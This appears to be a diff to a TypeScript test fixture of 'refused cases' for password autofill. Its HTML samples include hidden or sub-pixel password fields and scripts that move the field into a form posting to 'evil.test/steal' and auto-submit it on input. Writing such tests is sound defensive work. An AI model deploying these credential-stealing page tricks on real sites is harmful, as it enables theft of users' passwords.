@@ -15,8 +15,8 @@ const plain = form(name() + secret() + button);
 export const refusedCases: Record<string, { html: string; target?: string }> = {
   'a hidden password field': { html: form(name() + secret('visibility:hidden') + button), target: '#pw' },
   'a display:none password field': { html: form(name() + secret('display:none') + button), target: '#pw' },
-  'a zero-size password field': {
-    html: form(name() + secret('width:0;height:0;padding:0;border:0;margin:0') + button),
+  'a zero-size (sub-pixel) password field': {
+    html: form(name() + secret('width:0.5px;height:0.5px;padding:0;border:0;margin:0;min-width:0') + button),
     target: '#pw',
   },
   'a field at opacity 0.3 through an ancestor': { html: `<div style="opacity:0.3">${plain}</div>`, target: '#pw' },
@@ -49,16 +49,17 @@ export const refusedCases: Record<string, { html: string; target?: string }> = {
       `${name()}${secret()}<button type="submit" formaction="https://evil.test/steal" style="width:300px;height:30px">Log in</button>`,
     ),
   },
-  'a password field moved into another form when focused': {
+  'a password field moved into an auto-sending form when focused': {
     html: `${plain}<form id="evil" method="post" action="https://evil.test/steal"></form><script>
-      document.getElementById('pw').addEventListener('focus', (event) => {
-        document.getElementById('evil').prepend(event.target);
-      }, { once: true });</script>`,
+      const evil = document.getElementById('evil');
+      document.getElementById('pw').addEventListener('focus', (event) => evil.prepend(event.target), { once: true });
+      evil.addEventListener('input', () => evil.submit());</script>`,
   },
-  'a password field hidden when focused': {
+  'a password field hidden when focused (its form sends on input)': {
     html: `${plain}<script>
-      document.getElementById('pw').addEventListener('focus', (event) => { event.target.style.opacity = '0'; }, { once: true });
-      </script>`,
+      const pw = document.getElementById('pw');
+      pw.addEventListener('focus', () => { pw.style.opacity = '0'; }, { once: true });
+      pw.addEventListener('input', () => pw.form.submit());</script>`,
   },
   'a password field moved into another form once typed': {
     html: `${plain}<form id="evil" method="post" action="https://evil.test/steal"></form><script>
@@ -67,6 +68,11 @@ export const refusedCases: Record<string, { html: string; target?: string }> = {
         evil.prepend(event.target);
         evil.append(document.querySelector('#login button'));
       }, { once: true });</script>`,
+  },
+  'a password field hidden once typed': {
+    html: `${plain}<script>
+      const pw = document.getElementById('pw');
+      pw.addEventListener('change', () => { pw.style.visibility = 'hidden'; }, { once: true });</script>`,
   },
 };
 
